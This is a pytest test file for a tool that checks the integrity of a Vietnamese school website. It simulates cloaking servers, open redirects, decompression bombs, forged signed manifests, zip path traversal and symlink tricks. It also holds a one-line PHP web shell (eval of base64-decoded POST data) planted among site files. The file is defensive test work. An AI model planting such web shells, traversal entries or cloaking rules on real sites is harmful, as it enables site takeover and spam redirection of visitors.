        at("/ads.txt", ok("kuwin.example, 1, DIRECT", Content_Type="text/plain")),
    ),
    "stranger owns the site for Bing": (
        "ownership",
        at("/BingSiteAuth.xml", ok("<users><user>7</user></users>", Content_Type="text/xml")),
    ),
    "a second site map": (
        "extra doorway exposed",
        at(
            "/sitemap_index.xml",
            ok("<sitemapindex><sitemap><loc>/nohu.xml</loc></sitemap></sitemapindex>", Content_Type="text/xml"),
        ),
    ),
    "robots.txt, for search robots": (
        "robots-foreign cloak-ua cloak-mix",
        at(
            "/robots.txt",
            lambda answer: replace(answer, body=b"Sitemap: https://kuwin.example/s.xml\n"),
            has("User-Agent", "Googlebot"),
        ),
    ),
    "site map, for search robots": (
        "cloak-ua cloak-mix doorway",
        at(
            "/sitemap.xml",
            lambda answer: replace(answer, body=b"<urlset><url><loc>/no-hu.html</loc></url></urlset>"),
            has("User-Agent", "Googlebot"),
        ),
    ),
    "open redirect by url=": ("open-redirect", reflected("url")),
    "open redirect by next=": ("open-redirect", reflected("next")),
    "open redirect by two slashes": ("open-redirect redirect-foreign alias-differs", slash),
    "page cut short of its length": (
        "truncated unreachable changed",
        at(
            "/lien-he.html",
            lambda answer: replace(answer, body=answer.body[:200], claimed=len(answer.body), plain=True),
        ),
    ),
    "more behind the page": (
        "trailing changed gambling",
        served("lien-he", lambda answer: replace(answer, body=answer.body + BANNER.encode())),
    ),
    "page that never ends": (
        "trailing changed unreachable",
        at("/lien-he.html", lambda answer: replace(answer, endless=b" " * 65536, plain=True)),
    ),
    "bomb of zeros": (
        "encoding-differs changed unreachable trailing",
        at(
            "/lien-he.html",
            lambda answer: told(Content_Encoding="gzip")(
                replace(answer, body=gzip.compress(bytes(300 << 20), 1), plain=True)
            ),
            has("Accept-Encoding", "gzip"),
        ),
    ),
    "headers without end": (
        "unreachable missing header-extra",
        at("/lien-he.html", lambda answer: replace(answer, before=b"HTTP/1.1 200 OK\r\n" + b"X-A: 1\r\n" * 200_000)),
    ),
    "not HTTP at all": (
        "unreachable missing",
        at("/lien-he.html", lambda answer: replace(answer, before=b"\xff\xfe nha cai\r\n\r\n")),
    ),
}
"""The files are genuine; the server lies."""


def both(*whos: Who) -> Who:
    """Visitors of whom all of this is true."""
    return lambda asked: all(who(asked) for who in whos)


def redrawn(answer: Answer) -> Answer:
    """The picture with another code."""
    return replace(answer, body=strangers.picture(12))


PHONE, IPHONE, ROBOT = has("User-Agent", "Mobile"), has("User-Agent", "iPhone"), has("User-Agent", "Googlebot")
LATER: dict[str, tuple[str, Lie]] = {
    "script for phones only": (UA + " changed-script", served(r"\.js$", code, PHONE)),
    "style sheet for iPhones only": (UA + " changed-script", served(r"\.css$", code, IPHONE)),
    "QR code for phones only": (UA + " changed", served(r"ma-qr\.png$", redrawn, PHONE)),
    "leaflet for readers from a search": (
        REF + " pdf-active",
        served(r"\.pdf$", lambda answer: replace(answer, body=answer.body + PDF_ACTION), has("Referer", "google")),
    ),
    "leaflet for readers from Zalo leads away": (
        REF + " redirect-foreign",
        served(r"\.pdf$", away, has("Referer", "zalo")),
    ),
    "search index for readers of Vietnamese": (
        LANG + " changed-script",
        served("search/", code, has("Accept-Language", "vi")),
    ),
    "drawing loaded by a page": (FETCH, served(r"\.svg$", spam_svg, has("Sec-Fetch-Dest", "image"))),
    "installed app for browsers only": (FETCH + " changed-script", served("webmanifest", code, has("Sec-Fetch-Dest"))),
    "Refresh for phones only": (
        UA + " injected-redirect " + HEADER,
        lie(PHONE, told(Refresh="9; url=//kuwin.example")),
    ),
    "canonical address by header, for robots only": (
        UA + " " + HEADER,
        lie(ROBOT, told(Link='<https://kuwin.example/>; rel="canonical"')),
    ),
    "policy gone for phones only": (UA + " header-missing header-weak", lie(PHONE, told(Content_Security_Policy=""))),
    "policy weak for readers from Facebook only": (
        REF + " header-missing header-weak",
        lie(has("Referer", "facebook"), policy("script-src 'self'", "script-src *")),
    ),
    "cookie for readers from a search only": (
        REF + " " + HEADER,
        lie(has("Referer", "google"), told(Set_Cookie="src=g")),
    ),
    "gone for search robots only": (UA + " missing", lie(ROBOT, lambda answer: replace(answer, status=404))),
    "forbidden for readers of Vietnamese": (
        LANG + " missing unreachable",
        lie(has("Accept-Language", "vi"), lambda answer: replace(answer, status=403, body=b"403")),
    ),
    "another type for phones": (UA + " mime-wrong", lie(PHONE, told(Content_Type="application/octet-stream"))),
    "phones that come from Facebook with its click number": (
        "cloak-mix cloak-ua query-page redirect-foreign",
        lie(both(PHONE, has("Referer", "facebook"), asks("fbclid")), away),
    ),
    "phones from Google that read Vietnamese": (
        "cloak-mix cloak-ua cloak-referer redirect-foreign",
        lie(both(PHONE, has("Referer", "google"), has("Accept-Language", "vi")), away),
    ),
    "phones from Google without a cookie, in one language": (
        "cloak-mix cloak-ua cloak-referer",
        served("^/en/.*html$", subtle, both(PHONE, has("Referer", "google"), lambda asked: not asked.header("Cookie"))),
    ),
    "iPhones that read Vietnamese": (
        "cloak-mix cloak-ua cloak-language",
        lie(both(IPHONE, has("Accept-Language", "vi")), spam),
    ),
    "search robots on numbered pages": ("cloak-mix cloak-ua query-page", lie(both(ROBOT, asks(r"=\d")), spam)),
    "Vietnamese addresses on phones from Zalo": (
        "cloak-mix cloak-ua cloak-address",
        lie(both(has("User-Agent", "Zalo"), has("X-Forwarded-For", "^113")), spam),
    ),
    "real navigation on phones": (
        "cloak-mix cloak-ua cloak-fetch",
        lie(both(PHONE, has("Sec-Fetch-Mode", "navigate")), subtle),
    ),
    "browsers by their full list of encodings": (
        "encoding-differs cloak-fetch cloak-mix",
        lie(has("Accept-Encoding", r"gzip, deflate"), spam),
    ),
    "redirect to another port, every second time": (
        "redirect-foreign random",
        at(
            "/lop-6-7/tai-ve.html",
            lambda answer: told(Location=PORT_1)(away(answer)),
            lambda asked: asked.past[asked.target] % 2,
        ),
    ),
    "redirect to a name below this one's": (
        "redirect-foreign",
        at("/lop-6-7/tai-ve.html", lambda answer: told(Location="http://127.0.0.1.kuwin.example/")(away(answer))),
    ),
    "redirect with this host as user name": (
        "redirect-foreign",
        at("/lop-6-7/tai-ve.html", lambda answer: told(Location="http://127.0.0.1@kuwin.example/")(away(answer))),
    ),
    "redirect to a program of the phone": (
        "redirect-foreign",
        at(
            "/lop-6-7/tai-ve.html",
            lambda answer: told(Location="intent://kuwin.example/#Intent;scheme=https;end")(away(answer)),
        ),
    ),
    "contents compressed twice": (
        "encoding-differs changed unreachable",
        at(
            "/lien-he.html",
            lambda answer: told(Content_Encoding="gzip, gzip")(
                replace(answer, body=gzip.compress(gzip.compress(answer.body.replace(b":111", b":118"))), plain=True)
            ),
            has("Accept-Encoding", "gzip"),
        ),
    ),
    "unknown pages of a length of their own": (
        "notfound-hijack soft-404 doorway",
        unknown(r"^/[a-z]{3,8}(/|$)", casino),
    ),
    "unknown pictures sell gambling": ("notfound-hijack soft-404 doorway", unknown(r"\.(png|jpg|pdf)$", casino)),
}
"""Thought of after the first run and before anything was mended."""


@pytest.mark.parametrize("name", LIES | LATER)
def test_a_lying_server_is_found_and_named(name: str, genuine: Path, key: Path) -> None:
    kinds, said = (LIES | LATER)[name]
    with Server(genuine, said) as server:
        assert_named(verify(key, server.url, "--timeout", "3"), kinds)


def test_a_server_that_turns_bad_at_night_is_found_by_a_second_round(genuine: Path, key: Path) -> None:
    with Server(genuine, lie(lambda asked: asked.rested, spam)) as server:
        assert_named(verify(key, server.url, "--rounds", "2", "--every", "2"), "changed-later random changed")


def test_a_page_that_drips_is_given_up(genuine: Path, key: Path) -> None:
    """A byte now and then, each before the time is out: the whole page would take minutes."""
    with Server(genuine, at("/lien-he.html", lambda answer: replace(answer, pause=0.3, plain=True))) as server:
        assert_named(verify(key, server.url, "--timeout", "0.5"), "unreachable missing")


def test_another_site_under_another_name_is_noted(genuine: Path, key: Path) -> None:
    """Usual on a rented host, so a note and no finding."""
    with Server(genuine, lie(lambda asked: not asked.header("Host").startswith("127."), casino)) as server:
        report = verify(key, server.url)
    assert report.exit == 0
    assert '"shared-server"' in report.text


MISSED: dict[str, tuple[str, Lie]] = {
    "other networks than the inspector's": ("địa chỉ IP", lie(lambda asked: asked.client != "127.0.0.1", spam)),
    "whoever sends headers in the order of a browser": ("trình duyệt thật", lie(browser_order, spam)),
    "editors who have signed in": ("đăng nhập", lie(has("Cookie", "wordpress_logged_in_[0-9a-f]{32}=."), spam)),
    "who knows the unguessable name": ("không đoán được tên", at("/k7q2m9x4.html", casino)),
}
"""Nobody can see these from outside and one place: what the report says about each."""


@pytest.mark.parametrize("name", MISSED)
def test_what_cannot_be_seen_from_here_is_admitted(name: str, genuine: Path, key: Path) -> None:
    sentence, said = MISSED[name]
    with Server(genuine, said) as server:
        report = verify(key, server.url)
    assert report.exit == 0
    assert any(sentence in line for line in json.loads(report.text)["unseen"])


# Lists of files -------------------------------------------------------------------------------------------------------


def resign(**changes: object) -> Tamper:
    """The true signer says something else about the copy."""
    return lambda folder: _resign(folder, **changes)


def _resign(folder: Path, **changes: object) -> None:
    data = json.loads((folder / "integrity.json").read_text("utf-8")) | changes
    seal(folder, json.dumps(data, ensure_ascii=False, indent=1, sort_keys=True).encode())


def seal(
    folder: Path, data: bytes, pair: signing.KeyPair = KEY, comment: str = "release=2026.11 serial=12 site=thcs-mau"
) -> None:
    """Any bytes as a list, signed."""
    (folder / "integrity.json").write_bytes(data)
    (folder / "integrity.json.minisig").write_text(signing.sign_file(pair, data, comment), "utf-8")


def rehash(pair: signing.KeyPair | None) -> Tamper:
    """Change a page and write the list anew, with a key of the criminal's or keeping the old signature."""

    def change(folder: Path) -> None:
        old = (folder / "integrity.json.minisig").read_text("utf-8")
        edit(HELP, "tel:111", "tel:114")(folder)
        strangers.sign(folder, RELEASE, pair or KEY)
        if pair is None:
            (folder / "integrity.json.minisig").write_text(old, "utf-8")

    return change


def signature(change: Callable[[list[str]], list[str]]) -> Tamper:
    """Other lines in the signature file."""

    def tamper(folder: Path) -> None:
        file = folder / "integrity.json.minisig"
        file.write_text("\n".join(change(file.read_text("utf-8").splitlines())) + "\n", "utf-8")

    return tamper


def raw(change: Callable[[str], str]) -> Tamper:
    """Another text of the list, truly signed: the signer was tricked."""
    return lambda folder: seal(folder, change((folder / "integrity.json").read_text("utf-8")).encode())


def older(folder: Path) -> None:
    """Last year's release with its own, valid list."""
    edit("index.html", "<main>", "<main><p>Bản cũ</p>")(folder)
    strangers.sign(
        folder, replace(RELEASE, release="2026.05", serial=7, issued=date(2026, 9, 1), expires=date(2027, 2, 1))
    )


SAME_NUMBER = signing.KeyPair(KEY.number, THIEF.seed)
BAD_LIST = "bad-manifest"

LISTS: dict[str, tuple[str, Tamper, tuple[str, ...]]] = {
    "no list and no signature": ("no-manifest", drop("integrity.json", "integrity.json.minisig"), ()),
    "no signature": ("no-manifest bad-signature", drop("integrity.json.minisig"), ()),
    "empty list": (
        "bad-signature no-manifest bad-manifest",
        lambda folder: (folder / "integrity.json").write_bytes(b""),
        (),
    ),
    "list cut in the middle": (
        "bad-signature bad-manifest",
        only("integrity.json", lambda data: data[: len(data) // 2]),
        (),
    ),
    "a page in place of the list": (
        "bad-signature no-manifest bad-manifest",
        only("integrity.json", lambda _: b"<!doctype html><p>404"),
        (),
    ),
    "list written anew, old signature": ("bad-signature", rehash(None), ()),
    "list signed by a stranger": ("wrong-key bad-signature", rehash(THIEF), ()),
    "signed by a stranger who copied the key's number": ("bad-signature", rehash(SAME_NUMBER), ()),
    "comment of the signature exchanged": (
        "bad-signature",
        signature(lambda rows: [*rows[:2], rows[2].replace("12", "13"), rows[3]]),
        (),
    ),
    "comment truly signed, but of another release": (
        "bad-signature bad-manifest rollback",
        lambda folder: seal(
            folder, (folder / "integrity.json").read_bytes(), KEY, "release=2026.09 serial=99 site=thcs-mau"
        ),
        (),
    ),
    "signature without its second half": ("bad-signature", signature(lambda rows: rows[:2]), ()),
    "signature in letters that are none": (
        "bad-signature",
        signature(lambda rows: [rows[0], "\u0416" * 100, *rows[2:]]),
        (),
    ),
    "old release, validly signed": ("rollback", older, ("--min-serial", "12")),
    "list of another school": ("other-site", resign(site="thcs-khac"), ("--site", "thcs-mau")),
    "list for another host": ("other-host", resign(host="an-toan.thcs-khac.example"), ()),
    "expired yesterday": ("expired", resign(expires="2026-11-22", issued="2026-10-01"), ()),
    "good for ten years": ("bad-manifest expired", resign(expires="2036-11-22"), ()),
    "issued next month": ("bad-manifest expired", resign(issued="2026-12-24"), ()),
    "expires on the 31st of February": (BAD_LIST, resign(expires="2027-02-31"), ()),
    "serial a word": (BAD_LIST, resign(serial="12"), ()),
    "serial true": (BAD_LIST, resign(serial=True), ()),
    "files a list": (BAD_LIST, resign(files=["index.html"]), ()),
    "no files": (BAD_LIST, resign(files={}), ()),
    "a file above the folder": (
        BAD_LIST,
        raw(lambda text: text.replace('"app.webmanifest": {', '"../app.webmanifest": {', 1)),
        (),
    ),
    "the same file twice": (
        BAD_LIST,
        raw(
            lambda text: text.replace(
                '"files": {', '"files": {"index.html": {"sha256": "' + "0" * 64 + '", "size": 1, "type": "html"},', 1
            )
        ),
        (),
    ),
    "two serials": (BAD_LIST, raw(lambda text: text.replace('"serial": 12', '"serial": 12, "serial": 99')), ()),
    "a file at the root of the disk": (
        BAD_LIST,
        raw(lambda text: text.replace('"app.webmanifest": {', '"/etc/hostname": {', 1)),
        (),
    ),
    "a hash cut short": (BAD_LIST, raw(lambda text: re.sub(r'"sha256": "\w+"', '"sha256": "ab"', text, count=1)), ()),
    "a negative size": (BAD_LIST, raw(lambda text: re.sub(r'"size": \d+', '"size": -1', text, count=1)), ()),
    "a size that is not a number": (
        BAD_LIST,
        raw(lambda text: re.sub(r'"size": \d+', '"size": NaN', text, count=1)),
        (),
    ),
    "everything allowed": (BAD_LIST, resign(allowed=["*"]), ()),
    "another format": (BAD_LIST, resign(format="lachan-9"), ()),
    "very deep list": (BAD_LIST, raw(lambda _: "[" * 200_000), ()),
    "a number of a million digits": (
        BAD_LIST,
        raw(lambda text: text.replace('"serial": 12', '"serial": ' + "1" * 1_000_000)),
        (),
    ),
    "a list that is not UTF-8": (BAD_LIST, lambda folder: seal(folder, b'{"release": "\xff"}'), ()),
}
"""Games with the list of files and its signature."""


@pytest.mark.parametrize("name", LISTS)
def test_a_false_list_is_refused_and_named(name: str, copy: Path, key: Path) -> None:
    kinds, tamper, args = LISTS[name]
    tamper(copy)
    with Server(copy) as server:
        assert_named(verify(key, server.url, *args), kinds)


def test_a_list_without_end_is_given_up(genuine: Path, key: Path) -> None:
    flood = at("/integrity.json", lambda answer: replace(answer, endless=b" " * 65536, plain=True))
    with Server(genuine, flood) as server:
        assert_named(verify(key, server.url, "--timeout", "3"), "no-manifest bad-manifest bad-signature unreachable")


def test_pages_of_two_releases_are_told_apart(copy: Path, key: Path, tmp_path: Path) -> None:
    """Every file is genuine in some release, and the second list is known."""
    old = Path(shutil.copytree(copy, tmp_path / "old"))
    older(old)
    write(copy, "index.html", (old / "index.html").read_bytes())
    with Server(copy) as server:
        assert_named(verify(key, server.url, "--also", str(old / "integrity.json")), "mixed-release")


def test_an_old_list_shown_to_the_public_is_found_beside_the_one_in_hand(
    genuine: Path, key: Path, tmp_path: Path
) -> None:
    """The inspector brings the list; the site shows last year's to everybody else."""
    old = Path(shutil.copytree(genuine, tmp_path / "old"))
    older(old)

    def shown(asked: Asked, answer: Answer) -> Answer:
        name = asked.path.lstrip("/")
        return replace(answer, body=(old / name).read_bytes()) if name.startswith("integrity.json") else answer

    with Server(genuine, shown) as server:
        report = verify(key, server.url, "--manifest", str(genuine / "integrity.json"), "--min-serial", "12")
    assert_named(report, "rollback changed mixed-release bad-signature")


# Folders --------------------------------------------------------------------------------------------------------------


def link(name: str, target: str) -> Tamper:
    """A symbolic link in place of a file."""

    def tamper(folder: Path) -> None:
        file = folder / name
        if file.exists():
            shutil.move(file, folder.parent / "moved")
        file.symlink_to(folder.parent / "moved" if target == "moved" else target)

    return tamper


def place(name: str, data: bytes = b"x") -> Tamper:
    """A file alone, without twins."""

    def tamper(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)

    return tamper


PHP = b"<?php eval(base64_decode($_POST['k'])); ?>"

FOLDERS: dict[str, tuple[str, Tamper]] = {
    "one bit of a picture": (
        "changed",
        only("assets/ma-qr.png", lambda data: data[:-20] + bytes([data[-20] ^ 1]) + data[-19:]),
    ),
    "rewriting rules": ("server-config", place(".htaccess", b"RewriteRule ^ https://kuwin.example/ [R]\n")),
    "rewriting rules deep down": ("server-config", place("en/lop-6-7/.htaccess", b"ErrorDocument 404 /x.html\n")),
    "code before every page": ("server-config server-code", place(".user.ini", b"auto_prepend_file=favicon.ico\n")),
    "settings of IIS": ("server-config", place("web.config", b"<configuration/>")),
    "code among pictures": ("server-code", place("assets/ma-qr.php", PHP)),
    "code with two endings": ("server-code extra", place("assets/ma-qr.php.png", PHP)),
    "code with capital ending": ("server-code", place("en/Index.PHP", PHP)),
    "code without an ending": ("server-code extra", place("tai-ve/to-roi", PHP)),
    "code in a genuine picture": ("server-code changed trailing", append("assets/ma-qr.png", PHP)),
    "page is a link to the same bytes": ("link-file", link(HELP, "moved")),
    "folder is a link": ("link-file", link("assets", "moved")),
    "link to the whole disk": ("link-file", link("tai-ve/tat-ca", "/")),
    "link to nowhere": ("link-file", link("tai-ve/khong", "/khong/co")),
    "link to itself": ("link-file", link("tai-ve/vong", "vong")),
    "pipe in place of a page": (
        "missing link-file changed extra",
        lambda folder: ((folder / HELP).unlink(), os.mkfifo(folder / HELP)),
    ),
    "folder in place of a page": (
        "missing extra",
        lambda folder: ((folder / HELP).unlink(), place(HELP + "/index.html")(folder)),
    ),
    "memory of an editor": ("extra exposed", place(".index.html.swp")),
    "page by a look-alike name": ("extra", place("lop-6-7/lua-d\u0430o.html", BANNER.encode())),
    "same name in capitals": ("extra", place("LIEN-HE.html", BANNER.encode())),
    "name with a space behind": ("extra", place("lien-he.html ", BANNER.encode())),
    "name with accents taken apart": ("extra", place("tai-ve/to\u031b-roi.pdf")),
    "name that is not UTF-8": (
        "extra",
        lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/nh\xff.html")).write_bytes(b"x"),
    ),
    "name that draws on the screen": ("extra", place("\x1b[2Ja\nOK.html")),
    "stranger owns the site for Google": (
        "ownership",
        place("google1a2b3c4d5e6f7a8b.html", b"google-site-verification: google1a2b3c4d5e6f7a8b.html"),
    ),
    "first page of a folder that had none": ("extra doorway", place("lop-6-7/index.html", BANNER.encode())),
    "program to download": ("extra", place("tai-ve/VNeID.apk", b"PK\3\4")),
    "doorway where certificates are proved": (
        "extra doorway gambling server-code",
        place(".well-known/acme-challenge/nohu/index.html", BANNER.encode()),
    ),
    "code where certificates are proved": ("server-code", place(".well-known/acme-challenge/a.php", PHP)),
    "third twin of a page": ("extra", place("index.html.zst", b"\x28\xb5\x2f\xfd")),
    "a signature of something else": ("extra exposed", place("integrity.json.minisig.old")),
    "a list deeper down": ("extra", place("en/integrity.json", b"{}")),
    "folder of the search index gone": ("missing", lambda folder: shutil.rmtree(folder / "search")),
}
"""Looked at on the server's disk."""


@pytest.mark.parametrize("name", FOLDERS)
def test_a_changed_folder_is_found_and_named(name: str, copy: Path, key: Path) -> None:
    kinds, tamper = FOLDERS[name]
    tamper(copy)
    assert_named(verify(key, copy), kinds)


def test_a_file_name_cannot_draw_on_the_inspectors_screen(copy: Path, key: Path) -> None:
    """The report for people holds no control character but the end of a line."""
    place("\x1b[2J\x1b]0;OK\x07\u202e.html")(copy)
    words = [sys.executable, "-I", VERIFY, "--today", TODAY, "--key", key, copy]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60)
    assert done.returncode not in (0, 2)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout)


# Zips -----------------------------------------------------------------------------------------------------------------


def zipped(folder: Path, *more: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    """The folder as a zip, with more entries behind."""
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for file in sorted(folder.rglob("*")):
            if file.is_file():
                archive.writestr(file.relative_to(folder).as_posix(), file.read_bytes())
        for name, data in more:
            archive.writestr(name, data)
    return stream.getvalue()


def entry(name: str, mode: int = 0o644) -> zipfile.ZipInfo:
    """An entry with a mode of Unix."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


def encrypted(data: bytes) -> bytes:
    """All entries say that they need a password: bit 0 of their flags."""
    for mark, place_ in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        pattern = rb"(?s)(" + re.escape(mark) + rb".{%d})(.)" % (place_ - len(mark))
        data = re.sub(pattern, lambda found: found[1] + bytes([found[2][0] | 1]), data)
    return data


def unknown_packing(data: bytes) -> bytes:
    """The last entry's method is 77."""
    where = data.rindex(b"PK\1\2") + 10
    return data[:where] + b"\x4d\0" + data[where + 2 :]


def two_names(data: bytes) -> bytes:
    """What stands before the bytes of an entry is another name than in the directory."""
    where = data.index(b"lien-he.html")
    return data[:where] + b"nohu-88.html" + data[where + 12 :]


ZIPS: dict[str, tuple[str, Callable[[Path], bytes]]] = {
    "a page twice": ("bad-zip", lambda folder: zipped(folder, (HELP, BANNER.encode()))),
    "a page above the folder": ("bad-zip extra", lambda folder: zipped(folder, ("../../etc/cron.d/x", b"x"))),
    "a page at the root of the disk": ("bad-zip extra", lambda folder: zipped(folder, ("/etc/x", b"x"))),
    "a page on drive C": ("bad-zip extra", lambda folder: zipped(folder, ("C:/Windows/x.html", b"x"))),
    "backslashes": ("bad-zip extra", lambda folder: zipped(folder, ("lop-6-7\\lua-dao2.html", b"x"))),
    "same name in capitals": ("bad-zip extra", lambda folder: zipped(folder, ("INDEX.html", BANNER.encode()))),
    "a link": (
        "link-file bad-zip",
        lambda folder: zipped(folder, (entry("tai-ve/x", stat.S_IFLNK | 0o777), b"/etc/passwd")),
    ),
    "half a gigabyte of zeros": (
        "bad-zip extra",
        lambda folder: zipped(folder, ("tai-ve/to-roi-2.pdf", bytes(512 << 20))),
    ),
    "a program before the zip": ("bad-zip", lambda folder: b"MZ" + bytes(4094) + zipped(folder)),
    "a page behind the zip": ("bad-zip trailing", lambda folder: zipped(folder) + b"<script>1</script>"),
    "cut in the middle": ("bad-zip", lambda folder: zipped(folder)[:-300]),
    "entries behind a password": ("bad-zip", lambda folder: encrypted(zipped(folder))),
    "two names for one entry": ("unreadable bad-zip", lambda folder: two_names(zipped(folder))),
    "name with a zero byte": (
        "bad-zip extra",
        lambda folder: zipped(folder, ("index2.html", b"x")).replace(b"index2.html", b"index\0.html"),
    ),
    "other bytes under the old checksum": (
        "unreadable bad-zip changed",
        lambda folder: zipped(folder, (zipfile.ZipInfo("x.png"), b"genuine-genuine")).replace(
            b"genuine-genuine", b"genuine-kuwin!!"
        ),
    ),
    "an entry packed in a way nobody knows": ("unreadable bad-zip", lambda folder: unknown_packing(zipped(folder))),
    "hidden settings": ("server-config", lambda folder: zipped(folder, ("en/.htaccess", b"Options +ExecCGI"))),
    "program to run at once": ("extra", lambda folder: zipped(folder, ("autorun.inf", b"[autorun]\nopen=a.exe\n"))),
    "not a zip": ("bad-zip", lambda _: b"Rar!\x1a\x07\x01\0"),
    "an empty zip": ("no-manifest bad-zip", lambda _: b"PK\5\6" + bytes(18)),
}
"""Looked at as the file that is handed on by USB stick."""


@pytest.mark.parametrize("name", ZIPS)
def test_a_changed_zip_is_found_and_named(name: str, genuine: Path, key: Path, tmp_path: Path) -> None:
    kinds, packed = ZIPS[name]
    file = tmp_path / "la-chan-so.zip"
    file.write_bytes(packed(genuine))
    assert_named(verify(key, file), kinds)


# Around the site ------------------------------------------------------------------------------------------------------


def test_a_host_that_only_looks_official_is_not_in_the_register(genuine: Path, key: Path, tmp_path: Path) -> None:
    """The register has the same site under a name that begins alike."""
    register = tmp_path / "so.txt"
    register.write_text("127.0.0.1.thcs-mau.example thcs-mau\n", "utf-8")
    comment = "register serial=1 issued=2026-11-01 expires=2027-03-01"
    register.with_name("so.txt.minisig").write_text(signing.sign_file(KEY, register.read_bytes(), comment), "utf-8")
    with Server(genuine) as server:
        assert_named(verify(key, server.url, "--register", str(register)), "register-unknown")


PORTAL = (
    '<!doctype html><title>Cổng</title><iframe src="{url}lop-6-7/lua-dao.html"></iframe>'
    '<a href="https://moet.gov.vn/">Bộ</a>{more}'
)
PORTALS = {
    "frame of a host that begins alike": (
        "portal-frame",
        lambda text, _: text.replace("127.0.0.1", "127.0.0.1.kuwin.example"),
    ),
    "frame with the true host as a user name": (
        "portal-frame",
        lambda text, url: text.replace("http://", "http://127.0.0.1@kuwin.example/"),
    ),
    "second frame, one dot wide": (
        "portal-frame portal-links",
        lambda text, _: text.replace("{more}", "<iframe src=//kuwin.example width=1></iframe>"),
    ),
    "true frame in a comment, false one shown": (
        "portal-frame",
        lambda text, _: text.replace("<iframe", "<!-- <iframe").replace(
            "</iframe>", "</iframe> --><iframe src='https://kuwin.example/lop-6-7/lua-dao.html'></iframe>", 1
        ),
    ),
    "frame exchanged for an object": (
        "portal-frame",
        lambda text, _: re.sub("<iframe src=.*</iframe>", "<object data=//kuwin.example/></object>", text),
    ),
    "hidden link": ("portal-links", lambda text, _: text.replace("{more}", BANNER)),
}


@pytest.mark.parametrize("name", PORTALS)
def test_a_changed_portal_is_found_and_named(name: str, genuine: Path, key: Path, tmp_path: Path) -> None:
    kinds, change = PORTALS[name]
    portal, allowed = strangers.make(tmp_path / "portal"), tmp_path / "allowed.txt"
    allowed.write_text("moet.gov.vn\n", "utf-8")
    with Server(genuine) as server, Server(portal) as other:
        text = change(PORTAL.replace("{url}", server.url), server.url).replace("{more}", "")
        write(portal, "index.html", text.encode())
        assert_named(verify(key, server.url, "--portal", other.url, "--allow", str(allowed)), kinds)


LINE = '10.0.0.1 - - [22/Nov/2026:03:14:15 +0700] "GET {} HTTP/1.1" {} 5120 "https://www.google.com/" "Mozilla/5.0"\n'
LOGGED = {
    "a doorway": "/nohu/88.html",
    "a doorway spelt with percent signs": "/%6e%6fhu.html",
    "code with a query": "/assets/ma-qr.php?k=1",
    "a page that only differs in capitals": "/Lien-He.html",
}


@pytest.mark.parametrize("name", LOGGED)
def test_a_page_that_only_the_log_knows_is_found(name: str, genuine: Path, key: Path, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(LINE.format("/", 200) + LINE.format("/khong-co.html", 404) + LINE.format(LOGGED[name], 200), "utf-8")
    assert_named(verify(key, genuine, "--log", str(log)), "log-unlisted")


# Honest servers -------------------------------------------------------------------------------------------------------

HONEST = {
    "headers in another order": Style(backwards=True),
    "answers in chunks": Style(chunked=True),
    "weak tags": Style(weak=True),
    "HTTP/1.0": Style(version="HTTP/1.0"),
    "header names in small letters": Style(lower=True),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_server_of_another_make_is_not_suspected(name: str, genuine: Path, key: Path) -> None:
    with Server(genuine, style=HONEST[name]) as server:
        report = verify(key, server.url)
    assert (report.exit, report.kinds) == (0, set()), report.text


def test_an_honest_folder_and_zip_are_not_suspected(genuine: Path, key: Path, tmp_path: Path) -> None:
    file = tmp_path / "la-chan-so.zip"
    file.write_bytes(zipped(genuine))
    for target in (genuine, file):
        report = verify(key, target)
        assert (report.exit, report.kinds) == (0, set()), report.text
